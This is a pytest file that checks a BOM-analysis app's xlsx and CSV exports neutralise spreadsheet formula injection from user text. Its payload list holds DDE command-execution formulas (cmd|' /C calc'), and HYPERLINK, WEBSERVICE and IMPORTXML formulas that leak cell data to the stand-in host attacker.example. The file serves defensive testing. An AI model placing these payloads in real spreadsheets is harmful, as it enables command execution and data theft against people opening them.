"""A hostile BOM cannot plant formulas in what we export: every cell that comes from the
user's text is written as text (xlsx) or neutralised with a leading apostrophe (CSV)."""

from __future__ import annotations

import csv
import warnings
from pathlib import Path

import openpyxl
import pytest

from riskapp.core import report as report_module
from riskapp.core.pipeline import analyse
from riskapp.core.report import export_all, write_report

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for datasheet")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=WEBSERVICE("http://attacker.example/")',
    '=IMPORTXML(CONCAT("http://attacker.example/?",A2),"//a")',
]


def hostile_bom(folder: Path) -> Path:
    """A CSV BOM whose every text column carries a formula payload (and a name that is one)."""
    path = folder / "=SUM(1+1) hostile bom.csv"
    header = ["Description", "Qty", "Manufacturer", "MPN", "Supplier", "Notes", "Link"]
    rows = []
    for i, p in enumerate(PAYLOADS):
        rows.append(
            [
                f"{p}" if i % 2 else f"NdFeB magnet N42 {i}x5 mm {p}",
                str(i + 1),
                p,
                p,
                p,
                p,
                p,
            ]
        )
    rows.append(
        [
            "NdFeB magnet N52 10x5 mm",
            "4",
            "Arnold",
            "=N52-10x5",
            "-Digi-Key",
            "@note",
            "http://ok.example/x",
        ]
    )
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(header)
        w.writerows(rows)
    return path


def formula_cells(path: Path) -> list[str]:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        wb = openpyxl.load_workbook(path)  # data_only=False: formulas stay formulas
    found = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (
                    isinstance(cell.value, str)
                    and cell.data_type != "s"
                    and cell.value.startswith("=")
                ):
                    found.append(f"{ws.title}!{cell.coordinate}: {cell.value!r}")
    return found


def all_text(path: Path) -> str:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        wb = openpyxl.load_workbook(path)
    return "\n".join(
        str(c.value)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.value is not None
    )


@pytest.mark.slow
@pytest.mark.parametrize("fast_path", [False, True], ids=["table", "streamed"])
def test_report_cells_from_user_text_are_never_formulas(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fast_path: bool
) -> None:
    if fast_path:  # the writer used for big BOMs (XML written directly)
        monkeypatch.setattr(report_module, "TABLE_LIMIT", 1)
    analysis = analyse(hostile_bom(tmp_path))
    assert analysis.scored.lines["description"].str.contains("cmd|", regex=False).any()
    out = write_report([analysis], tmp_path / "report.xlsx")
    assert formula_cells(out) == []
    text = all_text(out)
    assert "=cmd|' /C calc'!A0" in text  # kept, as text, for the buyer to see


@pytest.mark.slow
def test_csv_export_neutralises_formulas(tmp_path: Path) -> None:
    analysis = analyse(hostile_bom(tmp_path))
    csv_path = next(p for p in export_all(analysis, tmp_path / "out") if p.suffix == ".csv")
    with csv_path.open(encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    numeric = [c for c in dangerous if _is_number(c)]
    assert dangerous == numeric, dangerous[:5]
    assert any(c.startswith("'=cmd|") for c in cells)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_check_would_see_a_formula(tmp_path: Path) -> None:
    """The detector has teeth: a workbook written naively (xlsxwriter's defaults turn
    '=...' strings into formulas) is caught."""
    import xlsxwriter

    path = tmp_path / "naive.xlsx"
    wb = xlsxwriter.Workbook(str(path))
    wb.add_worksheet("Lines").write(0, 0, PAYLOADS[0])
    wb.close()
    assert formula_cells(path) == [f"Lines!A1: {PAYLOADS[0]!r}"]
